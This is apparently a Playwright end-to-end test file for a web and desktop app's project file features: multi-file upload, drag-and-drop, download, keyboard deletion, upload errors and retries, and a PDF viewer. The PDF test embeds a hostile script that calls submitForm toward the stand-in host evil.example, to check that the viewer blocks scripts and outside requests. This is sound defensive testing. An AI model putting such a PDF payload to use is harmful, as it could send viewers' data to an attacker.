import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import type { DesktopApp } from '../support/desktop-app.ts'
import type { ServerProcess } from '../support/server-process.ts'
import { pdfOf } from '../support/pdf.ts'
import { demo, expect, test } from './fixtures.ts'
import { newName } from './people.ts'

/** Creates a project of the demo creator with the contributor as a member, and returns the address of its Files tab. */
const createProject = async (server: ServerProcess) => {
  const api = await server.api(demo.creator)
  const { data } = await api.projects.create({
    body: { title: `Harbour map ${newName()}`, description: 'Charts and tides.' },
  })
  const params = { id: data.id }
  const store = async (name: string, content = 'words') =>
    (await api.files.upload({ params }, { file: new File([content], name) })).data
  return { api: api.files, params, store, address: `/project/${data.id}/files` }
}
const chosen = (name: string, content: string | Buffer) => ({
  name,
  mimeType: 'text/plain',
  buffer: Buffer.from(content),
})
const choose = (page: Page, ...files: ReturnType<typeof chosen>[]) =>
  page.getByTestId('file-input').setInputFiles(files)
const file = (page: Page, name: string) =>
  page.getByRole('list', { name: 'Files', exact: true }).getByRole('listitem').filter({ hasText: name })
const uploads = (page: Page) => page.getByRole('list', { name: 'Uploads' }).getByRole('listitem')

/** Saves a file by `press`, and returns its name and content: by the browser's download, or on the desktop by the save dialog. */
const saveBy = async (page: Page, desktop: DesktopApp | null, place: string, press: () => Promise<void>) => {
  if (!desktop) {
    const [download] = await Promise.all([page.waitForEvent('download'), press()])
    await download.saveAs(place)
    return { name: download.suggestedFilename(), content: await readFile(place, 'utf8') }
  }
  await desktop.app.evaluate(({ dialog }, place) => {
    dialog.showSaveDialog = (...given: unknown[]) => {
      Object.assign(globalThis, { askedFor: (given.at(-1) as { defaultPath: string }).defaultPath })
      return Promise.resolve({ canceled: false, filePath: place })
    }
  }, place)
  await press()
  await expect.poll(() => readFile(place, 'utf8').catch(() => undefined)).toBeDefined()
  const path = await desktop.app.evaluate(() => (globalThis as unknown as { askedFor: string }).askedFor)
  return { name: path.split(/[/\\]/).at(-1), content: await readFile(place, 'utf8') }
}

test('[FILES-01] several files are uploaded at once, by button and by drop, downloaded and deleted', async ({
  page,
  desktop,
  openAs,
  server,
}, testInfo) => {
  const { api, params, address } = await createProject(server)
  await openAs(demo.creator, address)
  await expect(page.getByText('No files yet')).toBeVisible()
  await choose(page, chosen('plan.txt', 'the plan'), chosen('Größe 計画.txt', 'sizes'))
  await expect(file(page, 'plan.txt')).toContainText('8 B')
  await expect(file(page, 'Größe 計画.txt')).toContainText('Marta Lindqvist')
  await expect(page.getByText('2 files were uploaded.')).toBeVisible()

  const dropped = await page.evaluateHandle(() => {
    const data = new DataTransfer()
    data.items.add(new File(['dropped'], 'dropped.txt'))
    return data
  })
  await page.dispatchEvent('main', 'drop', { dataTransfer: dropped })
  await expect(file(page, 'dropped.txt')).toBeVisible()
  await expect(uploads(page)).toHaveCount(0)

  const saved = await saveBy(page, desktop, testInfo.outputPath('saved.txt'), () =>
    page.getByRole('button', { name: 'Download Größe 計画.txt' }).click(),
  )
  expect(saved).toEqual({ name: 'Größe 計画.txt', content: 'sizes' })

  await page.getByRole('button', { name: 'Delete plan.txt' }).click()
  await page.getByRole('button', { name: 'Delete', exact: true }).click()
  // While the dialog is open, screen readers and roles do not see the lists behind it.
  await expect(page.getByText('plan.txt was deleted.')).toBeVisible()
  await expect(file(page, 'plan.txt')).toHaveCount(0)
  const { data } = await api.list({ params, query: {} })
  expect(data.map(({ name }) => name)).toEqual(['dropped.txt', 'Größe 計画.txt'])
})

test('[FILES-01] a person chooses a file and deletes another by keyboard alone', async ({ page, openAs, server }) => {
  const { store, address } = await createProject(server)
  await store('old.txt')
  await openAs(demo.creator, address)
  await expect(file(page, 'old.txt')).toBeVisible()
  // No test can work the system's file dialog. This one sees that the app asks for the dialog, and sets the file that is chosen.
  const input = page.getByTestId('file-input')
  await input.evaluate((element) => {
    const ask = (event: Event) => (event.preventDefault(), element.setAttribute('data-asked', 'yes'))
    element.addEventListener('click', ask, { once: true })
  })
  await page.getByRole('button', { name: 'Upload files' }).focus()
  await page.keyboard.press('Enter')
  await expect(input).toHaveAttribute('data-asked', 'yes')
  await choose(page, chosen('new.txt', 'new'))
  await expect(file(page, 'new.txt')).toBeVisible()
  await page.getByRole('button', { name: 'Download old.txt' }).focus()
  await page.keyboard.press('Tab')
  await expect(page.getByRole('button', { name: 'Delete old.txt' })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('dialog', { name: 'Delete old.txt?' })).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.getByRole('button', { name: 'Delete old.txt' })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('button', { name: 'Cancel' })).toBeFocused()
  await page.keyboard.press('Tab')
  await expect(page.getByRole('button', { name: 'Delete', exact: true })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(page.getByText('old.txt was deleted.')).toBeVisible()
  await expect(file(page, 'old.txt')).toHaveCount(0)
  // The focus stays in the list, on a button of the file that is left.
  await expect(page.getByRole('button', { name: 'Download new.txt' })).toBeFocused()
})

test('[FILES-01] a failed upload shows the server’s words and Retry, an upload can be cancelled, and an expired token is refreshed', async ({
  page,
  openAs,
  server,
  network,
}) => {
  const { api, params, address } = await createProject(server)
  await openAs(demo.creator, address)
  await expect(page.getByText('No files yet')).toBeVisible()
  const words = 'The file could not be stored. Please try again.'
  network.fault({
    method: 'POST',
    path: /\/files$/,
    status: 503,
    body: { message: words, code: 'UNAVAILABLE' },
    times: 1,
  })
  await choose(page, chosen('plan.txt', 'the plan'))
  await expect(uploads(page).filter({ hasText: 'plan.txt' })).toContainText(words)

  // After the refresh the whole file is sent once more.
  network.fault({ method: 'POST', path: /\/files$/, status: 401, body: { message: 'no', code: 'X' }, times: 1 })
  await page.getByRole('button', { name: 'Retry plan.txt' }).click()
  await expect(file(page, 'plan.txt')).toContainText('8 B')

  network.fault({ method: 'POST', path: /\/files$/, delayMs: 30_000 })
  await choose(page, chosen('slow.txt', 'slow'))
  await page.getByRole('button', { name: 'Cancel slow.txt' }).click()
  await expect(uploads(page)).toHaveCount(0)
  const { data } = await api.list({ params, query: {} })
  expect(data.map(({ name }) => name)).toEqual(['plan.txt'])
})

test('a PDF is shown page by page, with its words; its scripts do not run, and it asks for nothing from outside', async ({
  page,
  openAs,
  server,
  network,
}, testInfo) => {
  const { api, params, address } = await createProject(server)
  const texts = Array.from({ length: 12 }, (_, at) => `Harbour, sheet ${at + 1}`)
  const store = (name: string, content: Buffer) =>
    api.upload({ params }, { file: new File([new Uint8Array(content)], name) })
  const evil = { script: "app.alert('run'); this.submitForm('https://evil.example/')", link: 'https://evil.example/' }
  await store('plan.pdf', pdfOf(texts, evil))
  await store('broken.pdf', pdfOf(['Cut']).subarray(0, 120))
  const outside: string[] = []
  const problems: string[] = []
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== network.origin && origin !== new URL(page.url()).origin)
      outside.push(origin)
  })
  page.on('dialog', (dialog) => void problems.push(dialog.message()))
  page.on('console', (message) => /content security policy/i.test(message.text()) && problems.push(message.text()))
  await openAs(demo.creator, address)
  await page.getByRole('button', { name: 'plan.pdf', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: 'plan.pdf' })
  await expect(dialog.getByText('Page 1 of 12')).toBeVisible()
  await expect(dialog.getByRole('group', { name: 'Page 1 of 12' })).toContainText('Harbour, sheet 1')
  // The picture of the page has ink on it.
  const ink = () =>
    dialog
      .locator('canvas')
      .first()
      .evaluate((canvas: HTMLCanvasElement) => {
        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] }
        let dark = 0
        for (let at = 0; at < data.length; at += 4) if ((data[at + 3] ?? 0) > 0 && (data[at] ?? 255) < 100) dark += 1
        return dark
      })
  await expect.poll(ink).toBeGreaterThan(500)
  await page.screenshot({ path: testInfo.outputPath('pdf.png') })
  // Far pages have no picture yet; the keyboard brings them.
  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toHaveText('')
  await dialog.getByRole('region', { name: 'The pages of plan.pdf' }).focus()
  await page.keyboard.press('End')
  await expect(dialog.getByText('Page 12 of 12')).toBeVisible()
  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toContainText('Harbour, sheet 12')
  await dialog.getByRole('button', { name: 'Larger' }).click()
  await expect(dialog.getByText('125%')).toBeVisible()
  // What one reads stays in sight.
  await expect(dialog.getByText('Page 12 of 12')).toBeVisible()
  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toBeInViewport()
  await expect(dialog.getByRole('group', { name: 'Page 11 of 12' })).not.toBeInViewport()
  await page.screenshot({ path: testInfo.outputPath('pdf-larger.png') })
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'broken.pdf', exact: true }).click()
  const broken = page.getByRole('dialog', { name: 'broken.pdf' })
  await expect(broken.getByText('This PDF cannot be read; it may be damaged. You can download it.')).toBeVisible()
  await expect(broken.getByRole('button', { name: 'Download' })).toBeVisible()
  await page.screenshot({ path: testInfo.outputPath('pdf-broken.png') })
  expect([outside, problems]).toEqual([[], []])
})
